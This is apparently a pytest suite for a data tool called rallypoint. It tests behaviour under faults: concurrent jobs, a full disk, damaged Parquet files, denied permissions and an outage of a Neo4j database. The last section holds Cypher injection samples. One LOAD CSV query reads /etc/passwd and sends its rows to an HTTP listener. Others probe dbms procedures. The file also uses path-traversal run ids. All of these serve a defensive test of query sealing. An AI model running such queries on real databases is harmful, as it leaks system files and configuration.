"""Faults of the machine and of concurrent jobs: nothing lost, one sentence each.

An ingest committing while a detect reads, cleanup beside a live run, run ids that are
paths, a disk that fills up (a small tmpfs, when the tests run as root), a damaged lake
Parquet file, unreadable files and folders, Neo4j unreachable during an ingest, and the
LOAD CSV exfiltration query of issue 22.
"""

from __future__ import annotations

import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import pyarrow.compute as pc
import pytest
from click.testing import CliRunner

from rallypoint.cli import main
from rallypoint.detectors.pipeline import detect_run
from rallypoint.errors import LakeError
from rallypoint.ingest.pipeline import ingest_sources
from rallypoint.lake import RUNNING, Lake, check_run_id
from rallypoint.simulate import simulate_world

REPO = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def worlds(tmp_path_factory):
    """Two small simulated worlds with different seeds (so no record id is shared)."""
    root = tmp_path_factory.mktemp("worlds")
    for seed in (3, 4):
        simulate_world(root / f"w{seed}", accounts=300, days=3, seed=seed)
    return root / "w3", root / "w4"


def run_tables(lake: Lake, run_id: str) -> dict:
    tables = {}
    for name, keys in (("edges", ["account_a", "account_b"]), ("members", ["cluster_id", "account_id"]),
                       ("clusters", ["cluster_id"])):
        table = lake.read_run_table(run_id, name)
        tables[name] = table.take(pc.sort_indices(table, [(k, "ascending") for k in keys]))
    return tables


def one_sentence(result) -> str:
    text = result.output.strip()
    assert result.exit_code == 2, text
    assert "Traceback" not in text and text.count("\n") == 0, text
    return text


# --- a run reads one snapshot ------------------------------------------------------------------------
@pytest.mark.slow
def test_an_ingest_committing_during_a_detect_changes_nothing_in_that_run(worlds, tmp_path, monkeypatch):
    first, second = worlds
    busy = Lake(tmp_path / "busy")
    ingest_sources([first], busy.root, show_progress=False)
    real_snapshot = Lake.snapshot

    def snapshot_then_ingest(self):
        taken = real_snapshot(self)
        ingest_sources([second], self.root, show_progress=False)  # commits right after the run started
        return taken

    monkeypatch.setattr(Lake, "snapshot", snapshot_then_ingest)
    during = detect_run(busy, run_id="during", show_progress=False)
    monkeypatch.setattr(Lake, "snapshot", real_snapshot)
    assert len(busy.committed_ingests()) == 2  # the second ingest did commit meanwhile
    assert len(during.summary["snapshot"]["ingests"]) == 1

    clean = Lake(tmp_path / "clean")
    ingest_sources([first], clean.root, show_progress=False)
    detect_run(clean, run_id="clean", show_progress=False)
    assert during.summary["counts"]["records"] == clean.read_run_json("clean")["counts"]["records"]
    got, want = run_tables(busy, "during"), run_tables(clean, "clean")
    for name in want:
        assert got[name].equals(want[name]), name


def test_a_snapshot_leaves_out_an_ingest_still_moving_its_files_in(worlds, tmp_path):
    first, _ = worlds
    lake = Lake(tmp_path / "lake")
    summary = ingest_sources([first], lake.root, show_progress=False)
    files = lake.interaction_files()
    assert lake.snapshot().files == tuple(files) and lake.snapshot().ingests == (summary.ingest_id,)
    # the moment of a roll-forward: files renamed in, the staging folder there, the log not yet
    (lake.ingests_dir / f"{summary.ingest_id}.json").unlink()
    (lake.staging_dir / summary.ingest_id).mkdir()
    assert lake.snapshot().files == ()
    (lake.staging_dir / summary.ingest_id).rmdir()  # files copied without their log: still read
    assert lake.snapshot().files == tuple(files)


def test_cleanup_spares_a_live_run_and_removes_dead_ones(tmp_path):
    lake = Lake(tmp_path / "lake").ensure()
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    for name, pid in (("live", os.getpid()), ("dead", int(gone.stdout))):
        lake.begin_run(name)
        marker = lake.runs_dir / name / RUNNING
        marker.write_text(json.dumps({**json.loads(marker.read_text()), "pid": pid}))
    (lake.runs_dir / "legacy").mkdir()  # an older version's killed run: no marker
    assert sorted(lake.discard_unfinished_runs()) == ["dead", "legacy"]
    assert (lake.runs_dir / "live").exists()
    with pytest.raises(LakeError, match="Another detect"):
        lake.begin_run("live")


@pytest.mark.parametrize("name", ["/tmp/outside", "../../escaped", "a/b", "..", ".hidden", "", "x" * 200])
def test_a_run_id_is_a_name_never_a_path(tmp_path, name):
    with pytest.raises(LakeError, match="not a run name"):
        check_run_id(name)
    lake = Lake(tmp_path / "lake").ensure()
    with pytest.raises(LakeError):
        detect_run(lake, run_id=name, show_progress=False)
    assert not (tmp_path / "escaped").exists() and not (lake.runs_dir.parent.parent / "escaped").exists()


# --- disk full ---------------------------------------------------------------------------------------
@pytest.fixture
def small_disk(tmp_path):
    """A 3 MiB tmpfs (root only): the lake fills it up."""
    if os.geteuid() != 0:
        pytest.skip("disk full needs a tmpfs, and mounting one needs root: not running as root")
    mount = tmp_path / "small"
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=3m", "tmpfs", str(mount)], capture_output=True,
                          text=True)
    if done.returncode:
        pytest.skip(f"cannot mount a tmpfs here ({done.stderr.strip()})")
    yield mount
    subprocess.run(["umount", str(mount)], check=False)


def test_disk_full_during_ingest_is_one_sentence_and_leaves_no_half_lake(tmp_path, small_disk):
    from rallypoint.ingest.synthetic import write_canonical_jsonl

    big = write_canonical_jsonl(tmp_path / "big.jsonl", 60_000)  # a lake far larger than the disk
    lake = small_disk / "lake"
    result = CliRunner().invoke(main, ["ingest", str(big), "--lake", str(lake)])
    assert "No space left" in one_sentence(result)
    assert Lake(lake).interaction_files() == []
    staging = lake / "_staging"
    assert not staging.exists() or not [p for p in staging.iterdir() if p.is_dir()]


def test_disk_full_during_detect_is_one_sentence_and_lists_no_run(worlds, tmp_path, small_disk):
    first, _ = worlds
    lake = Lake(small_disk / "lake")
    ingest_sources([first], lake.root, show_progress=False)
    filler = small_disk / "filler"
    with open(filler, "wb") as fh:  # take what is left
        try:
            while True:
                fh.write(b"\0" * 65536)
                fh.flush()
        except OSError:
            pass
    result = CliRunner().invoke(main, ["detect", "--lake", str(lake.root)])
    assert "No space left" in one_sentence(result)
    assert lake.run_ids() == []
    filler.unlink()
    result = CliRunner().invoke(main, ["detect", "--lake", str(lake.root)])
    assert result.exit_code == 0, result.output
    assert len(lake.run_ids()) == 1


# --- a damaged lake file -----------------------------------------------------------------------------
@pytest.mark.parametrize("damage", ["overwrite", "truncate"])
def test_a_damaged_lake_file_is_named_quarantined_and_its_source_ingested_again(worlds, tmp_path, damage):
    first, _ = worlds
    lake = Lake(tmp_path / "lake")
    ingest_sources([first], lake.root, show_progress=False)
    full = lake.read_interactions_table(columns=["id"]).num_rows
    victim = lake.interaction_files()[1]
    data = bytearray(victim.read_bytes())
    if damage == "truncate":
        data = data[: len(data) // 2]
    else:
        data[len(data) // 3: len(data) // 3 + 2000] = os.urandom(2000)
    victim.write_bytes(bytes(data))

    runner = CliRunner()
    message = one_sentence(runner.invoke(main, ["detect", "--lake", str(lake.root)]))
    assert str(victim) in message and "rallypoint lake quarantine" in message
    check = runner.invoke(main, ["lake", "check", "--lake", str(lake.root)])
    assert check.exit_code == 1 and str(victim) in check.output and "Traceback" not in check.output
    moved = runner.invoke(main, ["lake", "quarantine", "--lake", str(lake.root), str(victim)])
    assert moved.exit_code == 0, moved.output
    assert victim not in lake.interaction_files()
    assert runner.invoke(main, ["lake", "check", "--lake", str(lake.root)]).exit_code == 0
    again = ingest_sources([first], lake.root, show_progress=False)
    assert again.written > 0 and lake.read_interactions_table(columns=["id"]).num_rows == full
    assert runner.invoke(main, ["lake", "check", "--lake", str(lake.root)]).exit_code == 0


def test_lake_check_passes_a_whole_lake_and_finds_a_missing_file(worlds, tmp_path):
    first, _ = worlds
    lake = Lake(tmp_path / "lake")
    ingest_sources([first], lake.root, show_progress=False)
    runner = CliRunner()
    ok = runner.invoke(main, ["lake", "check", "--lake", str(lake.root)])
    assert ok.exit_code == 0 and "all readable" in ok.output
    lake.interaction_files()[0].unlink()
    missing = runner.invoke(main, ["lake", "check", "--lake", str(lake.root)])
    assert missing.exit_code == 1 and "is missing" in missing.output


def test_a_damaged_run_table_is_one_sentence(worlds, tmp_path):
    first, _ = worlds
    lake = Lake(tmp_path / "lake")
    ingest_sources([first], lake.root, show_progress=False)
    run = detect_run(lake, show_progress=False).run_id
    (lake.runs_dir / run / "clusters.parquet").write_bytes(b"PAR1 not really")
    message = one_sentence(CliRunner().invoke(main, ["export", "--lake", str(lake.root), "--out",
                                                     str(tmp_path / "out")]))
    assert f"clusters table of run {run}" in message and "damaged" in message and str(tmp_path) not in message


def test_an_export_folder_that_cannot_be_made_is_one_sentence(worlds, tmp_path):
    first, _ = worlds
    lake = Lake(tmp_path / "lake")
    ingest_sources([first], lake.root, show_progress=False)
    detect_run(lake, show_progress=False)
    one_sentence(CliRunner().invoke(main, ["export", "--lake", str(lake.root), "--out", "/proc/x"]))


# --- permission denied -------------------------------------------------------------------------------
def test_unreadable_files_and_folders_are_skipped_and_said(tmp_path):
    """Run as root without the capabilities that let root read anything (so mode 000 holds)."""
    if os.geteuid() != 0 or not shutil.which("setpriv"):
        pytest.skip("needs root and setpriv to drop root's read-anything capabilities")
    good = "\n".join(json.dumps({"id": f"g{i}", "platform": "x", "account_id": "a", "action": "post",
                                 "timestamp": "2023-01-02T10:00:00Z"}) for i in range(3)) + "\n"
    src = tmp_path / "in"
    (src / "hidden").mkdir(parents=True)
    (src / "a.jsonl").write_text(good)
    (src / "b.jsonl").write_text(good.replace('"g', '"h'))
    (src / "hidden" / "c.jsonl").write_text(good.replace('"g', '"k'))
    (src / "b.jsonl").chmod(0o000)
    (src / "hidden").chmod(0o000)
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    cmd = ["setpriv", "--bounding-set", "-dac_override,-dac_read_search", sys.executable, "-m", "rallypoint.cli"]
    try:
        done = subprocess.run([*cmd, "ingest", str(src), "--lake", str(tmp_path / "lake")], capture_output=True,
                              text=True, env=env)
        named = subprocess.run([*cmd, "ingest", str(src / "b.jsonl"), "--lake", str(tmp_path / "lake2")],
                               capture_output=True, text=True, env=env)
    finally:
        (src / "hidden").chmod(0o755)
        (src / "b.jsonl").chmod(0o644)
    assert done.returncode == 0, done.stderr
    assert "b.jsonl (file not read: permission denied)" in done.stdout
    assert "hidden (folder not read: permission denied)" in done.stdout
    assert Lake(tmp_path / "lake").read_interactions_table(columns=["id"]).num_rows == 3
    assert named.returncode == 2 and "Traceback" not in named.stderr and "not readable" in named.stderr


# --- Neo4j unreachable during an ingest, then caught up ------------------------------------------------
@pytest.mark.neo4j
def test_neo4j_down_during_ingest_then_graph_load_catches_up(tmp_path, neo4j_driver):
    from graph_fixtures import delete_token, expected_graph_counts, graph_counts, new_token

    from rallypoint.neo4j.connection import Neo4jSettings

    token = new_token()
    src = tmp_path / "in"
    src.mkdir()
    (src / "a.jsonl").write_text("\n".join(json.dumps({
        "id": f"{token}-p{i}", "platform": f"{token}-net", "account_id": f"{token}-a{i % 4}",
        "timestamp": f"2023-01-0{1 + i % 3}T10:00:00Z", "action": "repost" if i % 2 else "post",
        "target_id": f"{token}-p0" if i % 2 else None, "hashtags": [f"{token}tag"]}) for i in range(40)) + "\n")
    lake = Lake(tmp_path / "lake")
    runner = CliRunner()
    try:
        down = runner.invoke(main, ["ingest", str(src), "--lake", str(lake.root), "--neo4j", "bolt://127.0.0.1:1"])
        message = one_sentence(down)
        assert "graph load" in message and "lake took" in message
        records = lake.read_interactions_table()
        assert records.num_rows == 40  # the lake kept the ingest
        assert graph_counts(neo4j_driver, token)["Account"] == 0
        up = runner.invoke(main, ["graph", "load", "--lake", str(lake.root), "--neo4j", Neo4jSettings.resolve().uri])
        assert up.exit_code == 0, up.output
        assert json.loads(up.output)["records"] == 40
        assert graph_counts(neo4j_driver, token) == expected_graph_counts(records)
        again = runner.invoke(main, ["graph", "load", "--lake", str(lake.root)])
        assert json.loads(again.output).get("up_to_date") is True
    finally:
        delete_token(neo4j_driver, token)


# --- sealed research queries ------------------------------------------------------------------------
@pytest.fixture
def listener():
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - the http.server interface
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"a,b\n")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], hits
    server.shutdown()


@pytest.mark.neo4j
@pytest.mark.parametrize("query", [
    "LOAD CSV FROM 'file:///etc/passwd' AS row WITH row LIMIT 2 LOAD CSV FROM "
    "'http://127.0.0.1:{port}/p.csv?leak='+replace(row[0],' ','_') AS x WITH x LIMIT 1 MATCH (a:Account) RETURN a LIMIT 1",
    "LOAD CSV FROM 'http://127.0.0.1:{port}/x.csv' AS row WITH row LIMIT 1 MATCH (a) RETURN a LIMIT 1",
    "MATCH (a) WITH a LIMIT 1 LOAD CSV FROM 'http://127.0.0.1:{port}/' + a.id AS r RETURN a",
    "CALL dbms.listConfig() YIELD name WITH name LIMIT 1 MATCH (a) RETURN a LIMIT 1",
    "CALL dbms.listConnections() YIELD connectionId WITH connectionId LIMIT 1 MATCH (a) RETURN a LIMIT 1",
])
def test_cypher_exports_that_reach_files_the_network_or_procedures_are_refused(tmp_path, neo4j_driver, listener,
                                                                                query):
    port, hits = listener
    result = CliRunner().invoke(main, ["export", "--lake", str(tmp_path / "lake"), "--out", str(tmp_path / "out"),
                                       "--cypher", query.format(port=port)])
    message = one_sentence(result)
    assert "LOAD CSV" in message or "procedure" in message
    assert hits == []  # the listener received nothing
    assert not (tmp_path / "out").exists()


@pytest.mark.neo4j
def test_an_allowed_procedure_passes_the_seal(tmp_path, neo4j_driver):
    from rallypoint.graph.export import ExportError, SealedQueryRefused, cypher_subgraph

    try:
        cypher_subgraph("CALL db.labels() YIELD label WITH label LIMIT 1 MATCH (a) RETURN a LIMIT 1", None)
    except SealedQueryRefused:
        pytest.fail("db.labels is on the allowlist")
    except ExportError:
        pass  # an empty graph: nothing to export, but not refused


def test_the_plan_check_refuses_by_operator_not_text():
    from rallypoint.graph.export import SealedQueryRefused, sealed_plan

    plan = {"operatorType": "ProduceResults@neo4j", "args": {"Details": "a"}, "children": [
        {"operatorType": "Apply@neo4j", "args": {}, "children": [
            {"operatorType": "LoadCSV@neo4j", "args": {"Details": "line"}, "children": []}]}]}
    with pytest.raises(SealedQueryRefused, match="LOAD CSV"):
        sealed_plan(plan)
    called = {"operatorType": "ProcedureCall@neo4j", "args": {"Details": "apoc.load.json($u) :: (value :: MAP)"}}
    with pytest.raises(SealedQueryRefused, match="apoc.load.json"):
        sealed_plan(called)
    sealed_plan({"operatorType": "ProcedureCall@neo4j", "args": {"Details": "db.labels() :: (label :: STRING)"}})
    function = {"operatorType": "Projection@neo4j", "args": {"Details": "apoc.util.md5([a.id]) AS h"}}
    with pytest.raises(SealedQueryRefused, match="plugin function"):
        sealed_plan(function, frozenset({"apoc.util.md5"}))
